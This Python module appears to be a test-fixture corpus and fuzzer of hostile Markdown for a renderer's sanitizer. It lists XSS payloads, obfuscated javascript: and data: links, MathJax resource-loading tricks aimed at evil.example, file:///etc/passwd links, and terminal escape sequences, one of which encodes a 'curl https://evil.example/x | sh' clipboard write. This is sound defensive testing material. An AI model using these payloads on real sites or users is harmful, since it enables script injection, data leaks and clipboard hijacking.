"""Hostile Markdown for the renderer (grok_magic.safety.markdown), as plain data any test can import.

- `REPRODUCERS`: inputs that broke earlier renderers (issue 9), exactly as reported.
- `CLASSICS`: the usual XSS / resource-load / MathJax tricks. `PWN` stands for a payload that sets
  `window.__pwned = N` (so a browser can tell that it ran, and which one); `cases()` fills it in.
- `TERMINAL`: answers holding terminal escape sequences (clipboard, links, clearing).
- `IMAGE_CASES`: inputs with images the user did send (`allowed`), to check that allowing an
  image allows nothing else.
- `cases(canary)`: all of the above as `Case`s. Remote URLs use `CANARY` (`https://evil.example`);
  pass another origin (e.g. a local server that logs requests) to substitute it. The reproducers'
  `alert(1)` payloads also get a `window.__pwned` twin.
- `generate(seed, n, canary)`: a seeded fuzzer mixing fences, code spans, entities, Unicode line
  separators, links, images, reference definitions, autolinks, math and raw HTML.

No imports beyond the standard library, so the browser tests can use it as is.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass

CANARY = "https://evil.example"
PWN = "PWN"  # placeholder, replaced by f"window.__pwned={n}"


@dataclass(frozen=True)
class Case:
    id: str
    text: str
    allowed: tuple[str, ...] = ()


# Issue 9's reproducers, verbatim.
REPRODUCERS: list[str] = [
    '```x"><img src=x onerror=alert(1)>\nprint(1)\n```',
    '> ```x" onmouseover="alert(1)\n> y\n> ```',
    '`a`<img src=x onerror=alert(1)>`',
    '&#96;x `<img src=x onerror=alert(1)>`',
    '&#92;`<img src=x onerror=alert(1)>`',
    'a\u2028```\n<img src=x onerror=alert(1)>\n```\nb',
    'a\x0c```\n<img src=x onerror=alert(1)>\n```\nb',
    'a\x85```\n<img src=x onerror=alert(1)>\n```\nb',
    'a\x0b```\n<img src=x onerror=alert(1)>\n```\nb',
    'a\x1c```\n<img src=x onerror=alert(1)>\n```\nb',
    'Hello\n```<img src=x onerror=alert(1)>',
    '[a](javascript:alert((1)))',
    '[a](javascript:alert(1)//)',
    '[a](javascript:alert`1`)',
    '[a](javascript:alert(1) (t))',
    '[a\\](x)](javascript:alert(1))',
    '[a](javascript:alert(1)\\))',
    '[a][r]\n\n> [r]: javascript:alert(1)',
    '[a][r]\n\n- [r]: javascript:alert(1)',
    '![a]\n\n[a]: https://evil.example/x.png',
    '![a](https://evil.example/x.png (t))',
    '![a](https://evil.example/x.png?q=(a)(b))',
    '![a\\]](https://evil.example/x.png)',
    '$\\href{java\tscript:alert(1)}{x}$',
    '$\\style{cursor:url(https://evil.example/c.png?d=SECRET),auto}{x}$',
    '$\\class{mathjax_process}{x}$',
    '$\\cssId{grok}{x}$',
    '$\\unicode{x3C}$',
    '$\\require{evil}$',
    '$\\data{x=1}{y}$',
    '$\\htmlData{x=1}{y}$',
    '$\\htmlClass{mathjax_process}{y}$',
    '$\\htmlStyle{background:url(https://evil.example/b.png)}{y}$',
    '$\\htmlId{x}{y}$',
    '$\\bbox[style="background:url(https://evil.example/b.png)"]{x}$',
    '$\\bbox[red,border:1px solid red;background-image:url(https://evil.example/b.png)]{x}$',
    '\\(\\href{javascript:alert(1)}{x}\\)',
    '\\[\\href{https://evil.example}{x}\\]',
    '$$\\href{javascript:alert(1)}{x}$$',
    '$$\\style{cursor:url(https://evil.example/c.png?d=SECRET),auto}{x}$$',
    '\\\\(\\href{javascript:alert(1)}{x}\\\\)',
]

CLASSICS: list[str] = [
    # raw HTML, inline and as HTML blocks
    f"<script>{PWN}</script>",
    f"<div>\n<script>{PWN}</script>\n</div>",
    f'<iframe src="javascript:{PWN}"></iframe>',
    f'<iframe srcdoc="<script>{PWN}</script>"></iframe>',
    f"<svg onload={PWN}>",
    f"<svg><script>{PWN}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>",
    f"<img src=x onerror={PWN}>",
    f"x <img src=x onerror={PWN}> y",
    "<img src=https://evil.example/i.png>",
    f'<a href="javascript:{PWN}">x</a>',
    f'<div onclick="{PWN}">\nx\n</div>',
    f"<details open ontoggle={PWN}>",
    f"<!-- <img src=x onerror={PWN}> -->",
    f"<!--><img src=x onerror={PWN}>-->",
    f"x <!-- --!><img src=x onerror={PWN}> -->",
    f"<![CDATA[<img src=x onerror={PWN}>]]>",
    f"<?x <img src=x onerror={PWN}> ?>",
    "<style>@import url(https://evil.example/s.css)</style>",
    "<link rel=stylesheet href=https://evil.example/s.css>",
    f'<meta http-equiv=refresh content="0;url=javascript:{PWN}">',
    '<base href="https://evil.example/">',
    f'<form action="javascript:{PWN}"><button>x</button></form>',
    f"<input autofocus onfocus={PWN}>",
    f"<video><source onerror={PWN}></video>",
    f"<audio src=x onerror={PWN}>",
    f'<object data="javascript:{PWN}"></object>',
    f'<embed src="javascript:{PWN}">',
    '<a href="https://ok.example" style="position:fixed;inset:0">x</a>',
    '<span style="background:url(https://evil.example/b.png)">x</span>',
    f"<textarea><img src=x onerror={PWN}></textarea>",
    f'<noscript><p title="</noscript><img src=x onerror={PWN}>">',
    f"<table><td><img src=x onerror={PWN}></td></table>",
    f"</div><img src=x onerror={PWN}>",
    "</div><p>$\\href{https://evil.example}{x}$</p>",
    f'<span class="mathjax_process">$\\href{{javascript:{PWN}}}{{x}}$</span>',
    f"<IMG SRC=x OnErRoR={PWN}>",
    f"<img/src=x/onerror={PWN}>",
    f"<img src=x onerror\n={PWN}>",
    f"<<img src=x onerror={PWN}>>",
    f"&lt;img src=x onerror={PWN}&gt;",
    # Markdown that wraps HTML-ish text
    f"`<img src=x onerror={PWN}>`",
    f"``<img src=x onerror={PWN}>``",
    f'```python" onmouseover="{PWN}\nx\n```',
    f"~~~ <img src=x onerror={PWN}>\n~~~",
    f"~~~x\"><img src=x onerror={PWN}>\ny\n~~~",
    "```mathjax_process\n$\\href{https://evil.example}{x}$\n```",
    "```x mathjax_process\n$\\href{https://evil.example}{x}$\n```",
    "```grok-math\n\\(\\href{https://evil.example}{x}\\)\n```",
    f"    <img src=x onerror={PWN}>",
    f"| a | b |\n|---|---|\n| <img src=x onerror={PWN}> | `x|<img src=x onerror={PWN}>` |",
    f"# <img src=x onerror={PWN}>",
    f"**<img src=x onerror={PWN}>**",
    f"[<img src=x onerror={PWN}>](https://ok.example)",
    f'[x](https://ok.example "<img src=x onerror={PWN}>")',
    f'[x](https://ok.example" onmouseover="{PWN})',
    f"[x](https://ok.example' onmouseover='{PWN})",
    # javascript:, vbscript:, data: links with entity, whitespace and case tricks
    f"[x](javascript:{PWN})",
    f"[x](JaVaScRiPt:{PWN})",
    f"[x](<java\tscript:{PWN}>)",
    f"[x](<java script:{PWN}>)",
    f"[x](&#106;avascript:{PWN})",
    f"[x](&#x6A;avascript:{PWN})",
    f"[x](&#X6a;avascript:{PWN})",
    f"[x](jav&#x09;ascript:{PWN})",
    f"[x](jav&#9;ascript:{PWN})",
    f"[x](jav&#10;ascript:{PWN})",
    f"[x](jav&Tab;ascript:{PWN})",
    f"[x](jav&NewLine;ascript:{PWN})",
    f"[x](&#0000106&#0000097vascript:{PWN})",
    f"[x](javascript&colon;{PWN})",
    f"[x](javascript&#58;{PWN})",
    f"[x](javascript&#x3a;{PWN})",
    f"[x]( javascript:{PWN})",
    f"[x](<javascript:{PWN}>)",
    f"[x](\x01javascript:{PWN})",
    f"[x](\u00a0javascript:{PWN})",
    f"[x](java%73cript:{PWN})",
    f"[x](%6Aavascript:{PWN})",
    f"[x](javascript\\:{PWN})",
    f"[x](\\javascript:{PWN})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[x](data:text/html,<script>{PWN}</script>)",
    f"[x](DATA:text/html,<script>{PWN}</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](/files/x)",
    f"<javascript:{PWN}>",
    f"<JAVASCRIPT:{PWN}>",
    f"<javascript&#58;{PWN}>",
    "<data:text/html,x>",
    "<vbscript:msgbox(1)>",
    f"javascript:{PWN}",
    "www.evil.example/x.png",
    "https://evil.example/x.png",
    f"x@evil.example <x@evil.example> <mailto:x@evil.example?body=<img src=x onerror={PWN}>>",
    # reference definitions, in containers too
    f"[x][r]\n\n[r]: javascript:{PWN}",
    f"[x][r]\n\n[r]: <javascript:{PWN}>",
    f"[r]\n\n[r]: javascript:{PWN} \"t\"",
    f"[r]\n\n[r]:\n  &#106;avascript:{PWN}",
    f"[x][r]\n\n> - [r]: javascript:{PWN}",
    f"- [x][r]\n\n  [r]: javascript:{PWN}",
    "![r]\n\n[r]: //evil.example/x.png",
    "![r][]\n\n> [r]: https://evil.example/x.png",
    # images
    f"![x](javascript:{PWN})",
    f"![x](data:image/svg+xml,<svg onload={PWN}>)",
    "![x](https://evil.example/p.png)",
    "![x](//evil.example/p.png)",
    "![x](/files/x.png)",
    "![x](x.png)",
    "[![x](https://evil.example/p.png)](https://ok.example)",
    "![![x](https://evil.example/p.png)](https://evil.example/q.png)",
    # MathJax
    f"$\\href{{javascript:{PWN}}}{{x}}$",
    "$\\href{https://evil.example}{x}$",
    "$$\\href{https://evil.example}{x}$$",
    f"\\(\\href{{javascript:{PWN}}}{{x}}\\)",
    "\\[\\href{https://evil.example}{x}\\]",
    "$\\url{https://evil.example}$",
    "$\\style{position:fixed;top:0;left:0;width:100%;height:100%}{x}$",
    "$\\color{red;background:url(https://evil.example/c.png)}{x}$",
    "$\\textcolor{red;background-image:url(https://evil.example/c.png)}{x}$",
    "$\\color[RGB]{1,2,3}{x}$",
    f'$\\mmlToken{{mi}}[href="javascript:{PWN}"]{{x}}$',
    "$\\mmlToken{mi}[style=\"color:red\"]{x}$",
    f"$\\def\\x{{\\href{{javascript:{PWN}}}{{y}}}}\\x$",
    f"$\\newcommand{{\\x}}{{\\href{{javascript:{PWN}}}}}\\x{{y}}$",
    f"$\\let\\x\\href\\x{{javascript:{PWN}}}{{y}}$",
    f"$\\text{{\\(\\href{{javascript:{PWN}}}{{x}}\\)}}$",
    f"$\\text{{$\\href{{javascript:{PWN}}}{{x}}$}}$",
    f"$\\begin{{array}}{{>{{\\href{{javascript:{PWN}}}}}c}}x\\end{{array}}$",
    f"$\\toggle{{\\href{{javascript:{PWN}}}{{x}}}}{{y}}\\endtoggle$",
    f"$\\mathtip{{x}}{{\\href{{javascript:{PWN}}}{{y}}}}$",
    "$\\texttip{x}{y}$",
    f"$x\\)<img src=x onerror={PWN}>\\($",
    f"$x</span><img src=x onerror={PWN}>$",
    f"$\\verb|\\href{{javascript:{PWN}}}{{x}}|$",
    f"$\\operatorname{{\\href{{javascript:{PWN}}}{{x}}}}$",
    f"$\\tag{{\\href{{javascript:{PWN}}}{{x}}}}$",
    f"$\\ce{{\\href{{javascript:{PWN}}}{{x}}}}$",
    "$\\mathrm{&#92;href{https://evil.example}{x}}$",
    "$&#92;href{https://evil.example}{x}$",
    "&#92;(\\href{https://evil.example}{x}\\)",
    "&#36;\\href{https://evil.example}{x}$",
    "$\\begin{equation}\\href{https://evil.example}{x}\\end{equation}$",
    "\\begin{equation}\\href{https://evil.example}{x}\\end{equation}",
    "\\begin{align}x&=\\href{https://evil.example}{y}\\end{align}",
    "$x$ \\begin{equation}\\style{color:red}{x}\\end{equation}",
    "$$x$$ $$\\class{mjx-x}{y}$$",
    "$\\cssId{mjx-a}{x}$ $\\class{mjx-b}{x}$",
    "$\\unicode[.8,0][Arial]{x41}$",
    "$\\char\"41$",
    "$\\raise{1em}{x}$ $\\rule{100em}{100em}$",
    "$\\mathchoice{\\href{https://evil.example}{a}}{b}{c}{d}$",
    "$x \\\\[-999em] y$",
    "$\\\\href{https://evil.example}{x}$",
    "`$\\href{https://evil.example}{x}$`",
    "```\n$\\href{https://evil.example}{x}$\n```",
    "$x$\n\n```\n$\n```\n\n\\href{https://evil.example}{x}$",
    "\\$\\href{https://evil.example}{x}$",
    "$\\alpha$\\href{https://evil.example}{x}$",
    "$$\n\\href{https://evil.example}{x}\n$$",
    "$$\n\\alpha\n$$\n\\(\\href{https://evil.example}{x}\\)",
    "$\\alpha\u2028\\href{https://evil.example}{x}$",
    "$\\alpha\\\u2060href{https://evil.example}{x}$",
]

# (text, allowed images): the user sent these images, so they may load, and nothing else may.
IMAGE_CASES: list[tuple[str, tuple[str, ...]]] = [
    ("![a](https://evil.example/x.png)", ("https://evil.example/x.png",)),
    (f'![a" onerror="{PWN}](https://evil.example/x.png)', ("https://evil.example/x.png",)),
    (f'![a](https://evil.example/x.png" onerror="{PWN})', ("https://evil.example/x.png",)),
    (f"![a](https://evil.example/x.png \"t\" onerror={PWN})", ("https://evil.example/x.png",)),
    (f'![a](https://evil.example/x.png "t\\" onerror=\\"{PWN}")', ("https://evil.example/x.png",)),
    (f'![a](<https://evil.example/x.png" onerror="{PWN}>)',
     (f'https://evil.example/x.png" onerror="{PWN}',)),
    ("![a](https://evil.example/x.png?a=1&b=2)", ("https://evil.example/x.png?a=1&b=2",)),
    ("![a](https://evil.example/x%20y.png)", ("https://evil.example/x y.png",)),
    ("![a](https://evil.example/y.png)", ("https://evil.example/x.png",)),
    ("![a](https://evil.example/x.png#)", ("https://evil.example/x.png",)),
    ("![a](HTTPS://evil.example/x.png)", ("https://evil.example/x.png",)),
    ("![a](javascript:alert(1))", ("javascript:alert(1)",)),
    ("![a](data:image/png;base64,iVBORw0KGgo=)", ("data:image/png;base64,iVBORw0KGgo=",)),
    ("![a](x.png)", ("x.png",)),
    ("[![a](https://evil.example/x.png)](javascript:alert(1))", ("https://evil.example/x.png",)),
    ("![a]\n\n[a]: https://evil.example/x.png", ("https://evil.example/x.png",)),
    ("<img src=https://evil.example/x.png>", ("https://evil.example/x.png",)),
    ("$\\href{https://evil.example/x.png}{x}$", ("https://evil.example/x.png",)),
]


# Terminal escape sequences in an answer (issue 20): OSC 52 writes the clipboard, OSC 8 makes a
# link whose visible text lies, CSI clears or conceals, C1 controls do the same in 8 bits. In a
# notebook they must stay inert text; in a terminal they are dropped (tests/test_key_forms.py).
TERMINAL: list[str] = [
    "copy this\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07 done",
    "\x1b]8;;https://evil.example/\x1b\\https://safe.example\x1b]8;;\x1b\\ click",
    "\x1b[2J\x1b[Hscreen cleared \x1b[8mconcealed\x1b[0m",
    "\x9b2J\x9d8;;https://evil.example/\x9chttps://safe.example\x9d8;;\x9c",
    "```\n\x1b]52;c;cHduZWQ=\x07\n```\n`\x1b[31mred\x1b[0m`",
    f"<span>\x1b]8;;javascript:{PWN}\x07x\x1b]8;;\x07</span>",
]


def _pwn(text: str, n: int) -> str:
    return text.replace(PWN, f"window.__pwned={n}")


def cases(canary: str = CANARY) -> list[Case]:
    """The whole fixed corpus, with `canary` for the remote origin and numbered payloads."""

    def fill(text: str) -> str:
        return text.replace(CANARY, canary)

    out: list[Case] = []
    n = 0
    for i, text in enumerate(REPRODUCERS):
        out.append(Case(f"repro-{i}", fill(text)))
        if "alert" in text:
            n += 1
            out.append(Case(f"repro-{i}-pwned", fill(text.replace("alert", f"(__pwned={n})&&alert"))))
    for i, text in enumerate(CLASSICS):
        n += 1
        out.append(Case(f"classic-{i}", fill(_pwn(text, n))))
    for i, (text, allowed) in enumerate(IMAGE_CASES):
        n += 1
        out.append(Case(f"image-{i}", fill(_pwn(text, n)), tuple(fill(_pwn(a, n)) for a in allowed)))
    for i, text in enumerate(TERMINAL):
        n += 1
        out.append(Case(f"terminal-{i}", fill(_pwn(text, n))))
    return out


# ---------------------------------------------------------------------------------------------
# The fuzzer: small hostile pieces, put together at random.
_LINE_BREAKS = ["\n", "\n", "\n", "\r\n", "\r", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c",
                "\x1d", "\x1e", "\n\n", "\n\n", " \n", "  \n", "\\\n"]
_ENTITIES = ["&#96;", "&#x60;", "&#92;", "&#x5c;", "&lt;", "&gt;", "&amp;", "&quot;", "&#106;avascript",
             "&#x6A;avascript", "&#36;", "&#x24;", "&#x3c;", "&#60;", "&NewLine;", "&Tab;", "&colon;",
             "&#0;", "&#x0;", "&#128512;", "&bsol;", "&grave;", "&lbrack;", "&rpar;", "&nbsp;"]
_TAGS = ["<img src=x onerror={p}>", "<script>{p}</script>", "<svg onload={p}>", "<iframe src=javascript:{p}>",
         "<a href=javascript:{p}>", "</a>", "<b onmouseover={p}>", "</div>", "</span>", "</pre>",
         "</code>", "<div class=mathjax_process>", "<span class=\"grok-math mathjax_process\">",
         "<style>*{{background:url({c}/s.png)}}</style>", "<!--", "-->", "<![CDATA[", "]]>", "<?", "?>",
         "<details ontoggle={p} open>", "<img src={c}/t.png>", "<a href={c}>", "<x onclick={p}>",
         "<input onfocus={p} autofocus>", "<table>", "<td>", "<textarea>", "<noscript>", "<math>",
         "<p title=\"</p><img src=x onerror={p}>\">", "<br>", "<hr>"]
_ATTRS = ['" onmouseover="{p}', "' onmouseover='{p}", " onerror={p} ", '"><img src=x onerror={p}>',
          " style=background:url({c}/a.png) ", " class=mathjax_process ", " id=x ",
          "\" class=\"mathjax_process",
          " src={c}/a.png "]
_URLS = ["https://ok.example/a", "https://ok.example/a_(b)", "http://ok.example", "mailto:a@ok.example",
         "javascript:{p}", "JAVASCRIPT:{p}", "java\tscript:{p}", "&#106;avascript:{p}",
         "jav&#x09;ascript:{p}",
         "javascript&colon;{p}", "vbscript:msgbox(1)", "data:text/html,<script>{p}</script>",
         "data:image/svg+xml,<svg onload={p}>", "{c}/x.png", "{c}/x.png?q=(a)(b)", "//evil.example/x.png",
         "/files/x.png", "x.png", "#frag", "<javascript:{p}>", "<{c}/y.png>", "<{c}/x.png>",
         "javascript:alert((1))", "javascript:{p}//", "file:///etc/passwd", " javascript:{p}",
         "\\javascript:{p}", "%6Aavascript:{p}", "{c}/x.png\" onerror=\"{p}", "{c}"]
_TITLES = ["", "", " \"t\"", " 't'", " (t)", ' "<img src=x onerror={p}>"', " \"a\\\" onerror=\\\"{p}\"",
           " (x\" onerror=\"{p})"]
_LABELS = ["a", "x", "<img src=x onerror={p}>", "`code`", "a\\]", "[a]", "**b**", "$x$", "![i]({c}/i.png)",
           "&#96;", "a\u2028b", ""]
_INFO = ["", "python", "py", "js", "x\"><img src=x onerror={p}>", "x\" onmouseover=\"{p}", "mathjax_process",
         "x mathjax_process", "grok-math", "<img src=x onerror={p}>", "`x", "language-x", "python {{.x}}",
         "html", "latex", "math", "java script:{p}", "c++", "&#96;x", "a\u2028b", "~~~", "x" * 40]
_CODE = ["print(1)", "<img src=x onerror={p}>", "$\\href{{{c}}}{{x}}$", "\\(\\href{{javascript:{p}}}{{x}}\\)",
         "```", "~~~", "`", "</code></pre><img src=x onerror={p}>", "x = '<script>{p}</script>'",
         "&lt;img src=x onerror={p}&gt;", "  indented", "[a](javascript:{p})", "\\begin{{equation}}"]
_TEX = ["x^2", "\\frac{{a}}{{b}}", "\\alpha+\\beta", "\\sqrt{{2}}", "\\href{{javascript:{p}}}{{x}}",
        "\\href{{{c}}}{{x}}", "\\style{{color:red}}{{x}}", "\\style{{cursor:url({c}/c.png),auto}}{{x}}",
        "\\class{{mathjax_process}}{{x}}", "\\cssId{{mjx-x}}{{y}}", "\\unicode{{x3C}}", "\\require{{evil}}",
        "\\data{{a=1}}{{x}}", "\\htmlStyle{{color:red}}{{x}}", "\\bbox[background:url({c}/b.png)]{{x}}",
        "\\bbox[red]{{x}}", "\\color{{red}}{{x}}", "\\color{{red;background:url({c}/c.png)}}{{x}}",
        "\\text{{\\(\\href{{{c}}}{{x}}\\)}}", "\\text{{$x$}}", "\\def\\a{{\\href{{{c}}}{{x}}}}\\a",
        "\\begin{{pmatrix}}a&b\\\\c&d\\end{{pmatrix}}",
        "\\begin{{array}}{{>{{\\href{{{c}}}}}c}}x\\end{{array}}",
        "x\\)<img src=x onerror={p}>\\(", "</span><img src=x onerror={p}>", "a<b", "a>b", "a&b", "\\$",
        "\\\\", "\\{{x\\}}", "\\left(x\\right)", "\\operatorname{{\\href{{{c}}}{{x}}}}",
        "\\mathrm{{&#92;href}}",
        "\\tag{{1}}", "\\verb|\\href{{{c}}}{{x}}|", "x\u2028y", "\\ce{{H2O}}",
        "\\mmlToken{{mi}}[href={c}]{{x}}",
        "\\boxed{{x}}", "\\cancel{{x}}", "\\textcolor{{blue}}{{x}}", "|x|", "a\\\\$b", "x\\", "\\\\",
        "\\text{{\\$}}", "\\text{{&lt;img src=x onerror={p}&gt;}}", "\\mathrm{{<img src=x onerror={p}>}}",
        "\\tag{{<img src=x onerror={p}>}}", "\\textcolor{{url({c}/c.png)}}{{x}}", "\\vspace{{-100em}}",
        "\\hspace{{1em}}", "\\begin{{array}}{{c}}a\\end{{array}}", "\\operatorname{{x}}", "\\ref{{x}}",
        "\\eqref{{x}}", "\\label{{x}}", "\\}}", "\\{{", "\\%", "\\#", "x\\ y", "\\<", "\\@"]
# Allowed TeX and the characters that end or start math, for mixes that are nearly safe.
_TEX_ATOMS = ["x", "\\alpha", "\\frac", "{{", "}}", "^", "_", "\\\\", "\\", "$", "\\$", "\\(", "\\)",
              "\\[", "\\]", "\\text{{", "\\color{{red}}", "\\begin{{aligned}}", "\\end{{aligned}}", "&",
              "<", ">", "&amp;", "&#92;", "\\left(", "\\right)", " ", "\n", "\u2028", "`", "|",
              "\\href{{{c}}}",
              "\\tag{{", "%", "\\begin{{equation}}", "\\end{{equation}}", "\\mathrm{{", "\\boxed{{"]
_WORDS = ["Hello", "world", "**bold**", "*em*", "~~del~~", "_x_", "a|b", "|", "\\", "\\`", "``", "`", "$",
          "$$", "\\(", "\\)", "\\[", "\\]", "!", "[", "]", "(", ")", "<", ">", "&", "#", "-", "*", "1.", ">",
          "www.ok.example", "https://ok.example/x", "a@ok.example", "xai-abcdefghijklmnopqrstuvwxyz012345",
          "\u2060", "\u200b", "\ufeff", "\x00", "\ufffd"]
_CONTAINERS = ["", "", "", "> ", "- ", "* ", "1. ", "> - ", "- > ", "  ", "    ", "> > ", "   ", "\t"]


def _piece(rng: random.Random, p: str, c: str) -> str:
    def pick(seq: list[str]) -> str:
        return rng.choice(seq).format(p=p, c=c)

    kind = rng.randrange(16)
    if kind == 0:  # fenced code, maybe in a container, maybe unterminated
        fence = rng.choice(["```", "````", "~~~", "~~~~", "``", "~~"])
        box = rng.choice(_CONTAINERS)
        indent = " " * rng.choice([0, 0, 1, 3, 4])
        nl = rng.choice(_LINE_BREAKS[:8])
        lines = [box + indent + fence + pick(_INFO)]
        lines += [box + pick(_CODE) for _ in range(rng.randrange(3))]
        ending = rng.random()
        if ending < 0.6:
            lines.append(box + indent + fence)
        elif ending < 0.75:
            lines.append(box + fence[0] * (len(fence) + rng.choice([-1, 1])))
        elif ending < 0.85:
            lines.append(fence)
        return nl.join(lines)
    if kind == 1:  # code span, balanced or not
        ticks = "`" * rng.choice([1, 1, 2, 3])
        body = pick(_CODE) if rng.random() < 0.7 else pick(_TAGS)
        return ticks + body + (ticks if rng.random() < 0.7 else rng.choice(["", "`", "``"]))
    if kind == 2:
        return pick(_ENTITIES) + rng.choice(["", "`", "(", "x", "\\", "$"])
    if kind == 3:
        return rng.choice(_LINE_BREAKS)
    if kind == 4:  # inline link or image
        bang = "!" if rng.random() < 0.4 else ""
        url = pick(_URLS)
        if rng.random() < 0.2 and not url.startswith("<"):
            url = f"<{url}>"
        return f"{bang}[{pick(_LABELS)}]({url}{pick(_TITLES)})"
    if kind == 5:  # reference use + definition, maybe in a container
        label = rng.choice(["r", "R", "a b", "x\\]", "1"])
        bang = "!" if rng.random() < 0.4 else ""
        use = rng.choice([f"{bang}[{label}]", f"{bang}[t][{label}]", f"{bang}[{label}][]"])
        box = rng.choice(_CONTAINERS)
        sep = rng.choice([" ", "\n  ", "\t"])
        return f"{use}\n\n{box}[{label}]:{sep}{pick(_URLS)}{pick(_TITLES)}"
    if kind == 6:  # autolink
        return "<" + pick(_URLS).strip("<>") + ">"
    if kind == 7:  # math, with every delimiter
        if rng.random() < 0.6:
            tex = pick(_TEX)
        else:
            tex = "".join(pick(_TEX_ATOMS) for _ in range(rng.randint(1, 8)))
        if rng.random() < 0.3:
            tex += rng.choice([" ", "+"]) + pick(_TEX)
        left, right = rng.choice([("$", "$"), ("$$", "$$"), ("\\(", "\\)"), ("\\[", "\\]"), ("$$\n", "\n$$"),
                                  ("\\\\(", "\\\\)"), ("\\\\[", "\\\\]"), ("\\begin{equation}",
                                  "\\end{equation}"),
                                  ("$", ""), ("", "$"), ("$ ", " $"), ("\\[\n", "\n\\]")])
        return left + tex + right
    if kind == 8:  # raw HTML tag
        return pick(_TAGS)
    if kind == 9:  # an attribute-breaking string where an attribute could be
        return pick(_ATTRS)
    if kind == 10:  # heading
        return "#" * rng.randint(1, 7) + " " + pick(_WORDS) + " " + pick(_LABELS)
    if kind == 11:  # list / quote lines
        box = rng.choice(_CONTAINERS)
        return "\n".join(box + pick(_WORDS) + " " + pick(_WORDS) for _ in range(rng.randint(1, 3)))
    if kind == 12:  # table
        cells = [pick(_WORDS + _LABELS) for _ in range(2)]
        return (f"| {cells[0]} | {cells[1]} |\n|{rng.choice(['---', ':--', '--:', ':-:'])}|---|\n"
                f"| {pick(_CODE)} | {pick(_TAGS)} |")
    if kind == 13:
        return rng.choice(["", " "]) + pick(_WORDS)
    if kind == 14:  # emphasis around something hostile
        mark = rng.choice(["**", "*", "_", "~~", "~"])
        return mark + pick(_TAGS + _LABELS) + mark
    return " ".join(pick(_WORDS) for _ in range(rng.randint(1, 4)))


def generate(seed: int, n: int, canary: str = CANARY) -> Iterator[Case]:
    """`n` random hostile documents, the same for the same seed. Payloads are numbered from 100000."""
    rng = random.Random(seed)
    for i in range(n):
        p = f"window.__pwned={100000 + i}"
        parts = [_piece(rng, p, canary) for _ in range(rng.randint(1, 7))]
        text = ""
        for part in parts:
            text += part + (rng.choice(_LINE_BREAKS) if rng.random() < 0.5 else rng.choice(["", " ", ""]))
        allowed = (f"{canary}/x.png",) if rng.random() < 0.3 else ()
        yield Case(f"fuzz-{seed}-{i}", text, allowed)


# Model text that pandas would hand to MathJax or as HTML if a result table let it (runs.frame).
TABLE_PAYLOADS = [
    r"$\href{https://evil.example/}{LOGIN}$",
    r"\(\style{color:red}{x}\)",
    r"$$\class{x}{y}$$",
    r"\begin{equation}\href{https://evil.example/}{a}\end{equation}",  # cut at 50 by pandas
    r"\begin{equation}\style{color:red}{E}\end{equation}",  # 50 characters: shown whole
    r"\[\cssId{owned}{\href{https://evil.example/}{D}}\]",
    r"\$ not math \$ and $\unicode{x1F600}$",
    "<img src=x onerror=alert(1)>",
    "[LOGIN](https://evil.example/)",
]
